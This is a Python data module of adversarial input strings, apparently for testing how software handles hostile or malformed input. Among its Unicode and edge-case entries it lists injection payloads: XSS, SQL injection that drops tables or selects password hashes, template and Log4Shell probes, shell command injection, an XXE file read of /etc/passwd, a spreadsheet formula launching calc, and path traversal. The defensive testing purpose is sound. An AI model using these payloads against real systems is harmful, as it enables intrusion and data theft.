"""Strings that break software which takes its input for granted. Data only; what they must not do is in the tests."""

EMPTY = ("", " ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\u2060", "\u00ad", "\ufeff", " \t\r\n \u2003")

CONTROL = (
    "\0",
    "a\0b",
    "\0" * 100,
    "<scr\0ipt>",
    "\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f",
    "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f",
    "\x7f",
    "\x80\x81\x84\x86\x87\x9f",
    "\x85",
    "\u2028\u2029",
    "\x1b[31mrood\x1b[0m",
    "\x1b]0;titel\x07",
    "\b\b\b\b",
    "\ufffe\uffff",
    "\U0001fffe\U0010ffff",
    "\ufff9a\ufffab\ufffb",
    "\U000e0001\U000e0041\U000e007f",
    "\ue000\uf8ff",
)

DIRECTION = (
    "\u202egnirts neppo\u202c",
    "\u202afactuur\u202efdp.exe",
    "\u2066a\u2067b\u2068c\u2069",
    "\u200e\u200f\u061c",
    "\u202e" * 500,
    "הקרפד בגן",
    "هذا الحي جميل",
    "ﷺ" * 120,
    "abc \u202e\u202e\u202e def \u2066\u2066",
    "א" * 3000,
)

UNICODE = (
    "é",
    "e\u0301",
    "e" + "\u0301" * 3000,
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
    "👩‍👩‍👧‍👦",
    "👨‍👩‍👧‍👦" * 400,
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿🇳🇱🇳",
    "👍🏿\u200d\u200d\u200d",
    "\ufe0f\ufe0e\u20e3",
    "İıŞşĞğ",
    "ẞßſ",
    "ﬁﬂﬀ",
    "Å\u212bA\u030a",
    "①②③Ⅷ½",
    "٣٤٥",
    "१२३",
    "１２３",
    "ＳＣＲＩＰＴ",
    "ᴀᴅᴍɪɴ",
    "аdmin@example.org",
    "田中さんにあげて下さい",
    "𠜎𠜱𠝹𠱓",
    "Ω≈ç√∫˜µ≤≥÷",
    "\u1160\u115f\u3164",
    "\U0001d4b3" * 200,
    "ŉ\u0149",
    "ﷺﷲ﷼",
)

LONG = (
    "a" * 10_000,
    "a " * 5_000,
    "\n" * 9_000,
    "W" * 120,
    "- " * 4_000,
    "[" * 4_000,
    "> " * 3_000,
    "*_" * 3_000,
    "&" * 3_000,
    "<" * 3_000,
    "%" * 3_000,
    "https://" + "a" * 3_000,
    "x" * 253 + "@example.org",
    "a.b-c&d'e." * 500,
)

NUMBERS = """
0 -0 00 -1 1 1.0 1,5 +1 1_000 0x10 1e3 1e400 1/0 NaN Infinity -Infinity 2147483647 2147483648 4294967296
9223372036854775807 9223372036854775808 -9223372036854775809 18446744073709551616
0.0000000000000000000000000000001 $1.00 ١
""".split()

BIG = ("1" + "0" * 400, "9" * 5000, "-" + "9" * 5000, "1 2")

DATES = """
0001-01-01 0001-01-01T00:00 9999-12-31 9999-12-31T23:59 9999-12-31T23:59:59 1937-07-01T00:00:00
2025-03-30T02:30 2025-10-26T02:30 2024-02-29 2025-02-29 0000-00-00 10000-01-01 -0001-01-01 2025-13-01T25:61
1900-01-01T00:00 31-12-9999 2025-01-01T00:00+99:99 ٢٠٢٥-٠١-٠١
""".split()

WORDS = """
null NULL None nil undefined true false [] {} __proto__ constructor __class__ __init__ self csrf_token CON
--help admin
""".split()

MARKUP = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[",
    "<?php echo 1; ?>",
    "<%= 1 %>",
    "&lt;b&gt;",
    "&#0;&#x110000;&#xd800;",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "<svg onload=alert(1)>",
    "</" * 500,
)

CODE = (
    "' OR '1'='1",
    "'; DROP TABLE post; --",
    '" OR ""="',
    "1; SELECT pg_sleep(9)",
    "1 UNION SELECT password_hash FROM person",
    "\\'; --",
    "%' ESCAPE '",
    "%%%",
    "___",
    "{{7*7}}",
    "{{ config }}",
    "{% for x in (1).__class__.__base__.__subclasses__() %}",
    "{{ ''.__class__.__mro__ }}",
    "{%",
    "}}",
    "{#",
    "${7*7}",
    "#{7*7}",
    "${jndi:ldap://example.org/a}",
    "%s%s%s%n%x%d",
    "%(name)s",
    "%(",
    "{0} {name!r} {0.__class__}",
    "{",
    "}",
    "$(touch x)",
    "`touch x`",
    "| cat /etc/passwd",
    "; ls",
    "(&(uid=*)(|(uid=*",
    "AND OR NOT NEAR (",
    '"" "" - -""',
    "a:b:c",
    "*:*",
    "__import__('os').system('x')",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    '{"a": [1, {"b": null}]}',
    "[" * 900 + "]" * 900,
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "(?:(a+)+)+$",
    "a" * 40 + "!",
)

LINES = (
    "a\r\nSet-Cookie: x=1",
    "a\nBcc: iemand@example.org",
    "a%0d%0aLocation: https://example.org",
    "a@example.org\r\nBcc: b@example.org",
    "a@example.org\nRCPT TO:<b@example.org>",
    "\r\n.\r\n",
    "a\u0085b\u2028c",
    "Titel: \n: uitleg\n:\n::\n",
)

PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows",
    "%2e%2e%2f",
    "....//....//",
    "/etc/passwd",
    "file:///etc/passwd",
    "//example.org",
    "/\\example.org",
    "https://example.org",
    "http://[::1",
    "http://[",
    "//[",
    "/\t/example.org",
    "\\\\example.org\\a",
    ".",
    "..",
    "a/../b",
    "?a=b#c",
    "#",
    "%00",
    "%",
    "%zz",
    "%ED%A0%80",
    "mailto:a@b",
)

ADDRESSES = (
    "@",
    "a@",
    "@b",
    "a@b",
    "a@b@c.nl",
    '"a b"@example.org',
    "a@[127.0.0.1]",
    "a@xn--ls8h.la",
    "a@münchen.example",
    "é@example.org",
    "a@" + "b" * 64 + ".nl",
    "a" * 65 + "@example.org",
    "a..b@example.org",
    "a@example.org,b@example.org",
    "<a@example.org>",
    "a@-b.nl",
    "a@\u2024\u3002nl",
)

# In the place of people's own words, and in the place of a choice, a date, a number, an address or a token.
TEXTS: tuple[str, ...] = (*EMPTY, *CONTROL, *DIRECTION, *UNICODE, *LONG, *WORDS, *MARKUP, *CODE, *LINES, *PATHS)
SHAPES: tuple[str, ...] = (*EMPTY, *CONTROL[:4], *LONG[:2], *NUMBERS, *BIG, *DATES, *WORDS[:6], *CODE[:3], *ADDRESSES)
STRINGS: tuple[str, ...] = tuple(dict.fromkeys(TEXTS + SHAPES))

# Bytes as they stand in a query string or a form, that no string encodes to.
RAW = (
    "%ED%A0%80",
    "%ED%BF%BF",
    "%ED%A0%BD%ED%B8%80",
    "%C0%80",
    "%C0%AE%C0%AE%C0%AF",
    "%FF%FE",
    "%80",
    "%C3",
    "%C3%28",
    "%E2%82",
    "%F4%90%80%80",
    "%F8%88%80%80%80",
    "%00",
    "%u0041",
    "%",
    "%G1",
    "a%00b%00",
    "%0d%0aX: y",
    "+%20%09",
    "%EF%BF%BF",
)

# What stands where a number is asked in an address.
NUMBERS_IN_ADDRESSES = (
    "0",
    "-1",
    "00",
    "2147483647",
    "2147483648",
    "9223372036854775807",
    "9223372036854775808",
    "18446744073709551616",
    "1" + "0" * 400,
    "9" * 5000,
    "1e3",
    "1.5",
    "0x1",
    "+1",
    "٣",
    "１",
    "1\0",
    "\0",
    "NaN",
    "null",
    "' OR 1=1",
    "{{7*7}}",
    "%",
    "a" * 3000,
)
